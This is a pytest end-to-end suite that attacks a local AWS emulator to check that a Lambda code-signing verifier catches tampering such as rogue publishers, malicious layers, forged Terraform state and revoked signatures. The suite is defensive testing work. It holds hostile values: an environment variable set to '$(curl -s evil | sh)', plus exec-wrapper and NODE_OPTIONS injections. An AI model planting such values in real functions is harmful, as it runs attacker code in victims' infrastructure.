"""The attack review, end to end: after a real `terraform apply` of the stack against the local
AWS, each weakness found in the old verifier now fails `verify` and `drift`, and each false
alarm now passes (with a warning where AWS's semantics say the code is still valid).

The attacker has ordinary CI deploy rights: Lambda, Signer (start jobs with the real profile),
S3, and write access to the Terraform state. Reversible attacks use the shared apply
(tests/conftest.py), which is restored and compared with its post-apply snapshot after each
test; irreversible ones (a canceled profile, revocations) run in order, in one test, on an apply
of their own.
"""

from __future__ import annotations

import copy
import datetime as dt
import io
import json
import subprocess
import sys
import time
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from localaws.testing import running_local_aws
from tests.conftest import REPO_ROOT, STACK_NAME, Synth, tool_env
from tests.e2e.deployment import Deployment
from tests.e2e.drifting import assert_drift_caught, planned_now
from tests.e2e.scenarios import SCENARIO

pytestmark = pytest.mark.e2e


# --- the deployment, the lock, and running the tools as a user would ---------------------------


class Attacked:
    def __init__(self, deployment: Deployment) -> None:
        self.d = deployment
        self.lock_file = deployment.workdir.parent / "signed-lambda.lock.json"
        if not self.lock_file.exists():  # what `make deploy` writes after the apply
            result = self.cli(
                "lock", "--outputs", str(deployment.outputs_file), "--lock", str(self.lock_file)
            )
            assert result.returncode == 0, result.stderr

    @property
    def manifest(self) -> dict[str, Any]:
        return self.d.manifest

    def hello(self) -> dict[str, Any]:
        entry: dict[str, Any] = self.manifest["functions"]["hello"]
        return entry

    def client(self, service: str) -> Any:
        return self.d.client(service)

    def cli(self, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
        result = subprocess.run(
            [sys.executable, "-m", "verifier", *args],
            cwd=cwd or REPO_ROOT,
            env=tool_env(self.d.env),
            capture_output=True,
            text=True,
            timeout=600,
            stdin=subprocess.DEVNULL,
        )
        assert "Traceback" not in result.stderr, result.stderr
        return result

    def verify(self, *extra: str, outputs: Path | None = None) -> tuple[int, dict[str, Any]]:
        result = self.cli(
            "verify",
            "--outputs",
            str(outputs or self.d.outputs_file),
            "--lock",
            str(self.lock_file),
            "--source",
            str(REPO_ROOT),
            "--format",
            "json",
            *extra,
        )
        return result.returncode, json.loads(result.stdout) if result.stdout.strip() else {}

    def drift(self) -> tuple[int, str]:
        reports = self.d.workdir.parent / "reports"
        result = self.cli(
            "drift",
            "--stacks-dir",
            str(self.d.workdir.parent),
            "--stack",
            STACK_NAME,
            "--reports",
            str(reports),
            "--lock",
            str(self.lock_file),
            "--source",
            str(REPO_ROOT),
        )
        return result.returncode, (reports / "drift-summary.md").read_text()

    # -- building blocks of the attacks ------------------------------------------------------

    def sign(self, profile_name: str, files: dict[str, str]) -> dict[str, Any]:
        """A zip signed in a new job (anyone with signer:StartSigningJob on the profile)."""
        s3, signer = self.client("s3"), self.client("signer")
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, content in files.items():
                archive.writestr(zipfile.ZipInfo(name, (2020, 1, 1, 0, 0, 0)), content)
        key = f"unsigned/attacker/{time.time_ns()}.zip"
        bucket = self.manifest["bucket"]
        version = s3.put_object(Bucket=bucket, Key=key, Body=buffer.getvalue())["VersionId"]
        job_id = signer.start_signing_job(
            source={"s3": {"bucketName": bucket, "key": key, "version": version}},
            destination={"s3": {"bucketName": bucket, "prefix": "signed/attacker/"}},
            profileName=profile_name,
        )["jobId"]
        return dict(signer.describe_signing_job(jobId=job_id))

    def second_profile(self) -> dict[str, Any]:
        name = f"intruder_{time.time_ns()}"
        reply = self.client("signer").put_signing_profile(
            profileName=name, platformId="AWSLambda-SHA384-ECDSA"
        )
        return {"profileName": name, **reply}

    def publish(self, job: dict[str, Any]) -> str:
        """Deploy ``job``'s signed object, publish it, put the stack's build back on $LATEST."""
        lam, name = self.client("lambda"), self.hello()["function_name"]
        signed = job["signedObject"]["s3"]
        lam.update_function_code(
            FunctionName=name, S3Bucket=signed["bucketName"], S3Key=signed["key"]
        )
        version = str(lam.publish_version(FunctionName=name)["Version"])
        lam.update_function_code(
            FunctionName=name,
            S3Bucket=self.hello()["signed_bucket"],
            S3Key=self.hello()["signed_key"],
        )
        return version


def failed(report: dict[str, Any]) -> set[str]:
    return {c["id"] for c in report.get("checks", []) if c["status"] == "fail"}


def not_passing(report: dict[str, Any]) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for check in report.get("checks", []):
        if check["status"] != "pass":
            found.setdefault(check["id"], set()).add(check["status"])
    return found


@pytest.fixture
def attacked(deployment: Deployment) -> Attacked:
    """The shared apply; the deployment fixture restores it after each test and checks that
    the live AWS matches its post-apply snapshot (test_verify_out_of_band.py shows it clean)."""
    return Attacked(deployment)


# --- the six weaknesses --------------------------------------------------------------------


def attack_1(attacked: Attacked) -> None:
    """A build signed by the real profile in another job, published behind an alias, then
    revoked."""
    job = attacked.sign(attacked.manifest["signing_profile_name"], {"handler.py": "x = 1\n"})
    version = attacked.publish(job)
    attacked.client("lambda").create_alias(
        FunctionName=attacked.hello()["function_name"], Name="live", FunctionVersion=version
    )
    attacked.client("signer").revoke_signature(jobId=job["jobId"], reason="drill")


def test_1_a_build_signed_in_another_job_behind_an_alias(attacked: Attacked) -> None:
    attack_1(attacked)
    code, report = attacked.verify()
    assert code == 1
    assert {"versions.signed", "aliases.signed"} <= failed(report)


def attack_2(attacked: Attacked) -> str:
    """A second publisher in the CSC, and weighted routing to code it signed; the version."""
    intruder = attacked.second_profile()
    attacked.client("lambda").update_code_signing_config(
        CodeSigningConfigArn=attacked.manifest["code_signing_config_arn"],
        AllowedPublishers={
            "SigningProfileVersionArns": [
                attacked.manifest["signing_profile_version_arn"],
                intruder["profileVersionArn"],
            ]
        },
    )
    version = attacked.publish(attacked.sign(intruder["profileName"], {"handler.py": "x = 2\n"}))
    name = attacked.hello()["function_name"]
    current = attacked.client("lambda").publish_version(FunctionName=name)["Version"]
    attacked.client("lambda").create_alias(
        FunctionName=name,
        Name="canary",
        FunctionVersion=current,
        RoutingConfig={"AdditionalVersionWeights": {version: 0.05}},
    )
    return version


def test_2_an_extra_publisher_and_weighted_routing_to_its_code(attacked: Attacked) -> None:
    version = attack_2(attacked)
    code, report = attacked.verify()
    assert code == 1
    assert {"csc.publishers", "versions.signed", "aliases.signed"} <= failed(report)
    assert f"{version} (5%)" in json.dumps(report)


def attack_3(attacked: Attacked) -> None:
    """A layer signed by the real profile, the handler moved into it, an exec wrapper set."""
    job = attacked.sign(
        attacked.manifest["signing_profile_name"], {"python/evil.py": "def handler(e, c): pass\n"}
    )
    signed = job["signedObject"]["s3"]
    layer = attacked.client("lambda").publish_layer_version(
        LayerName="evil", Content={"S3Bucket": signed["bucketName"], "S3Key": signed["key"]}
    )
    name = attacked.hello()["function_name"]
    live = attacked.client("lambda").get_function_configuration(FunctionName=name)
    attacked.client("lambda").update_function_configuration(
        FunctionName=name,
        Handler="evil.handler",
        Layers=[*(layer["Arn"] for layer in live.get("Layers", [])), layer["LayerVersionArn"]],
        Environment={
            "Variables": {
                **(live.get("Environment") or {}).get("Variables", {}),
                "AWS_LAMBDA_EXEC_WRAPPER": "/opt/wrapper",
                "NODE_OPTIONS": "--require /opt/x.js",
            }
        },
    )


def test_3_a_signed_layer_the_handler_moved_into_it_and_an_exec_wrapper(
    attacked: Attacked,
) -> None:
    attack_3(attacked)
    code, report = attacked.verify()
    assert code == 1
    assert {"function.configuration", "function.environment", "layers.declared"} <= failed(report)


def attack_hidden_environment(attacked: Attacked) -> str:
    """A variable no list of known-bad names held, in a published version behind an alias;
    ``$LATEST`` is left clean (issue 18, case 1)."""
    lam = attacked.client("lambda")
    name = attacked.hello()["function_name"]
    lam.update_function_configuration(
        FunctionName=name, Environment={"Variables": {"BASH_ENV": "$(curl -s evil | sh)"}}
    )
    version = str(lam.publish_version(FunctionName=name)["Version"])
    lam.update_function_configuration(FunctionName=name, Environment={"Variables": {}})
    lam.create_alias(FunctionName=name, Name="shadow", FunctionVersion=version)
    return version


def test_5_a_variable_hidden_in_a_published_version_fails_verify_and_audit(
    attacked: Attacked,
) -> None:
    version = attack_hidden_environment(attacked)
    code, report = attacked.verify()
    assert code == 1
    on_version = [
        c
        for c in report["checks"]
        if c["id"] == "function.environment" and c["code_path"] == version
    ]
    assert on_version and on_version[0]["status"] == "fail"
    assert "BASH_ENV (not declared)" in on_version[0]["actual"]
    assert "curl" not in json.dumps(report), "a value is never reported"
    result = attacked.cli(
        "audit",
        "--lock",
        str(attacked.lock_file),
        "--function-prefix",
        attacked.hello()["function_name"],
        "--no-cache",
        "--format",
        "json",
    )
    assert result.returncode == 1, result.stderr
    audit = json.loads(result.stdout)
    assert {c["id"] for c in audit["checks"] if c["status"] == "fail"} >= {
        "function.environment",
        "aliases.signed",
    }


def test_1_to_3_and_5_each_fail_drift(attacked: Attacked) -> None:
    """Drift runs the same verifier in-process after a plan: one run with the attacks in place
    names each one's checks (the plan itself sees none of them but the configuration)."""
    attack_1(attacked)
    attack_2(attacked)
    attack_hidden_environment(attacked)  # before attack 3, which sets $LATEST's environment
    attack_3(attacked)
    code, summary = attacked.drift()
    assert code == 1
    for check in ("versions.signed", "aliases.signed", "csc.publishers", "function.environment"):
        assert f"`{check}`" in summary, (check, summary)


def test_4_state_rewritten_to_another_profile_csc_and_job(attacked: Attacked) -> None:
    """The attacker's own profile and CSC, their signed code deployed under that CSC, and the
    stack's outputs in state rewritten to name them: the lock still pins the real ones."""
    lam, signer = attacked.client("lambda"), attacked.client("signer")
    intruder = attacked.second_profile()
    csc = lam.create_code_signing_config(
        AllowedPublishers={"SigningProfileVersionArns": [intruder["profileVersionArn"]]},
        CodeSigningPolicies={"UntrustedArtifactOnDeployment": "Enforce"},
    )["CodeSigningConfig"]["CodeSigningConfigArn"]
    job = attacked.sign(intruder["profileName"], {"handler.py": "x = 4\n"})
    name = attacked.hello()["function_name"]
    lam.put_function_code_signing_config(FunctionName=name, CodeSigningConfigArn=csc)
    signed = job["signedObject"]["s3"]
    lam.update_function_code(FunctionName=name, S3Bucket=signed["bucketName"], S3Key=signed["key"])
    forged = copy.deepcopy(attacked.manifest)
    forged.update(
        signing_profile_name=intruder["profileName"],
        signing_profile_version_arn=intruder["profileVersionArn"],
        code_signing_config_arn=csc,
    )
    forged["functions"]["hello"].update(
        signing_job_id=job["jobId"],
        unsigned_key=job["source"]["s3"]["key"],
        unsigned_version=job["source"]["s3"]["version"],
        signed_key=signed["key"],
    )
    assert signer  # the real profile is untouched
    forged_outputs = attacked.d.workdir.parent / "forged-outputs.json"
    forged_outputs.write_text(json.dumps({STACK_NAME: {"manifest": forged}}))
    code, report = attacked.verify(outputs=forged_outputs)
    assert code == 1
    assert "lock.anchor" in failed(report)
    # The same forgery in Terraform state, which is what drift reads.
    state = json.loads(attacked.d.terraform("state", "pull").stdout)
    original = copy.deepcopy(state)
    state["outputs"]["manifest"]["value"] = forged
    state["serial"] += 1
    pushed = attacked.d.workdir / "forged.tfstate"
    pushed.write_text(json.dumps(state))
    attacked.d.terraform("state", "push", str(pushed))
    try:
        code, summary = attacked.drift()
        assert code == 1 and "`lock.anchor`" in summary
    finally:
        # Terraform bumps the serial on push: restore on top of whatever it wrote.
        current = json.loads(attacked.d.terraform("state", "pull").stdout)
        original["serial"] = current["serial"] + 1
        pushed.write_text(json.dumps(original))
        attacked.d.terraform("state", "push", str(pushed))


def test_6_flag_mode_trusts_only_what_it_is_told(attacked: Attacked, tmp_path: Path) -> None:
    """Run where no signed-lambda.lock.json exists: flags alone trust nothing."""
    entry = attacked.hello()
    flags = [
        "verify",
        "--function",
        entry["function_name"],
        "--job-id",
        entry["signing_job_id"],
        "--csc-arn",
        attacked.manifest["code_signing_config_arn"],
    ]
    result = attacked.cli(*flags, cwd=tmp_path)
    assert result.returncode == 2 and "--trusted-profile-version-arn" in result.stderr
    intruder = attacked.second_profile()
    untrusted = attacked.cli(
        *flags, "--trusted-profile-version-arn", intruder["profileVersionArn"], cwd=tmp_path
    )
    assert untrusted.returncode == 1, untrusted.stderr
    pinned = attacked.manifest["signing_profile_version_arn"]
    result = attacked.cli(*flags, "--trusted-profile-version-arn", pinned, cwd=tmp_path)
    assert result.returncode == 0, result.stdout[-2000:]
    result = attacked.cli(*flags, "--lock", str(attacked.lock_file), cwd=tmp_path)
    assert result.returncode == 0, result.stdout[-2000:]


# --- irreversible: revocations and a canceled profile, in order, on their own apply ----------


@pytest.fixture(scope="module")
def irreversible(synth: Synth, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Attacked]:
    """One apply for the irreversible tests, which run in file order on one worker."""
    with running_local_aws(tls=True) as local:
        yield Attacked(Deployment.apply(synth, tmp_path_factory.mktemp("revoked"), local))


def test_7_irreversible_in_order(irreversible: Attacked, tmp_path: Path) -> None:
    """On one apply, in this order, each step attributable to its own change: a Canceled
    profile is drift (the drift table's row: the plan sees it) and warns; an identical re-upload
    of the signed key and a profile revocation effective after the signatures warn; then the
    job's signature is revoked, which fails verify and drift (the table's row: the plan sees
    nothing new), and a saved job document taken before cannot stand in (--job-file is gone);
    last, the profile revoked from before the signatures fails drift (the table's row)."""
    signer, s3 = irreversible.client("signer"), irreversible.client("s3")
    profile_name = irreversible.manifest["signing_profile_name"]
    # 1. Canceled (the scenario cancels the profile): drift, and existing signatures stay valid.
    assert_drift_caught(irreversible.d, SCENARIO["profile canceled"])
    assert signer.get_signing_profile(profileName=profile_name)["status"] == "Canceled"
    code, report = irreversible.verify()
    assert code == 0, not_passing(report)
    assert not_passing(report) == {"profile.revocation": {"warn"}, "layers.signed": {"warn"}}
    # 2. The signed bytes uploaded again, and a revocation effective after the signatures.
    entry = irreversible.hello()
    body = s3.get_object(Bucket=entry["signed_bucket"], Key=entry["signed_key"])["Body"].read()
    s3.put_object(Bucket=entry["signed_bucket"], Key=entry["signed_key"], Body=body)
    profile = signer.get_signing_profile(profileName=profile_name)
    effective = dt.datetime.now(dt.UTC)
    time.sleep(1)  # Signer only takes effective times in the past
    signer.revoke_signing_profile(
        profileName=profile_name,
        profileVersion=profile["profileVersion"],
        reason="rotation drill",
        effectiveTime=effective,
    )
    code, report = irreversible.verify()
    assert code == 0, not_passing(report)
    assert not_passing(report) == {
        "object.not_overwritten": {"warn"},
        "profile.revocation": {"warn"},
        "layers.signed": {"warn"},
    }
    assert "after the signature" in json.dumps(report)
    # 3. The build's own signature revoked (the scenario); a document saved before is no way
    #    around it. The profile check still only warns: the next step is what makes it fail.
    saved = tmp_path / "job.json"
    saved.write_text(
        json.dumps(signer.describe_signing_job(jobId=entry["signing_job_id"]), default=str)
    )
    # The revocation above changed what the plan shows for the canceled profile: the plan's
    # changes right before this step are the baseline.
    failing, planned = assert_drift_caught(
        irreversible.d,
        SCENARIO["job signature revoked"],
        planned_before=planned_now(irreversible.d),
    )
    assert "profile.revocation" not in failing
    result = irreversible.cli(
        "verify", "--outputs", str(irreversible.d.outputs_file), "--job-file", str(saved)
    )
    assert result.returncode == 2 and "--job-file" in result.stderr
    code, report = irreversible.verify()
    assert code == 1 and "job.not_revoked" in failed(report)
    # (Drift failing on `job.not_revoked` is the scenario's row, asserted above.)
    # 4. The profile revoked from a day before the signatures (moving the revocation earlier).
    assert_drift_caught(
        irreversible.d,
        SCENARIO["profile revoked"],
        already_failing=frozenset(failing),
        planned_before=planned,
    )
